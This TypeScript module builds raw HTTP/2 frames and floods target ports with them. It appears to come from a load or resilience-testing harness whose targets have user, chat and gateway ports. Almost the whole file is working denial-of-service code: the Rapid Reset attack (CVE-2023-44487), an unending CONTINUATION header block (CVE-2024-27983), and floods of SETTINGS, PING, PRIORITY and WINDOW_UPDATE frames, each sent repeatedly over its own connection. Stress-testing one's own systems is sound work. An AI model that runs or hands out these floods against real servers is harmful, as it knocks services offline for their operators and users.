import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { type Attack, attackConnections, type Target } from './attack.ts';
import { untilAborted } from './until-aborted.ts';

const type = { headers: 1, priority: 2, reset: 3, settings: 4, ping: 6, window: 8, continuation: 9 } as const;

function frame(kind: number, flags: number, stream: number, payload: Buffer | number[]): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(kind, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, Buffer.from(payload)]);
}

const preface = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(type.settings, 0, 0, [])]);
/** `:method: POST`, `:scheme: http`, `:path: /`, of HPACK's static table. */
const headers = [0x83, 0x86, 0x84];

/** What is sent again and again on one connection. The number grows from one piece to the next. */
const pieces: readonly ((count: number) => Buffer)[] = [
  // Rapid reset: CVE-2023-44487.
  (count) => {
    const stream = 2 * count + 1;
    return Buffer.concat([frame(type.headers, 0x4, stream, headers), frame(type.reset, 0, stream, [0, 0, 0, 8])]);
  },
  () => frame(type.settings, 0, 0, [0, 4, 0, 0, 0xff, 0xff]),
  () => frame(type.ping, 0, 0, Buffer.alloc(8)),
  (count) => frame(type.priority, 0, 2 * count + 1, [0, 0, 0, 0, 1]),
  // A block of headers that does not end: CVE-2024-27983.
  (count) =>
    frame(count === 0 ? type.headers : type.continuation, 0, 1, count === 0 ? headers : Buffer.alloc(16, 0x40)),
  (count) => frame(type.headers, 0x5, 2 * count + 1, headers),
  () => frame(type.window, 0, 0, [0, 0, 0, 1]),
];
const piecesAtOnce = 200;

async function flood(socket: Socket, piece: (count: number) => Buffer, signal: AbortSignal): Promise<void> {
  await once(socket, 'connect', { signal });
  socket.write(preface);
  for (let count = 0; !socket.destroyed && !signal.aborted; count += piecesAtOnce) {
    const more = socket.write(Buffer.concat(Array.from({ length: piecesAtOnce }, (_, index) => piece(count + index))));
    if (more) await new Promise((resolve) => setImmediate(resolve));
    else await Promise.race([once(socket, 'drain', { signal }), once(socket, 'close', { signal })]);
  }
}

/** Frames of HTTP/2 that cost their sender nothing, each kind on a connection of its own. */
function floodsOf(name: string, portsOf: (target: Target) => readonly number[]): Attack {
  return {
    name,
    run: (target, signal) => {
      const ports = portsOf(target);
      let turn = 0;
      return untilAborted(signal, attackConnections, async (leave) => {
        turn += 1;
        const socket = connect({ host: target.host, port: ports[turn % ports.length] ?? 0 });
        socket.on('error', () => undefined).resume(); // it is cut off by those who are attacked
        const piece = pieces[turn % pieces.length];
        try {
          if (piece !== undefined) await flood(socket, piece, leave);
        } finally {
          socket.destroy();
        }
      });
    },
  };
}

export const http2Floods: readonly Attack[] = [
  floodsOf('floods of frames of HTTP/2', ({ userPort, chatPort }) => [userPort, chatPort]),
  floodsOf('floods of frames of HTTP/2 at the gateway', ({ restPort }) => [restPort]),
];
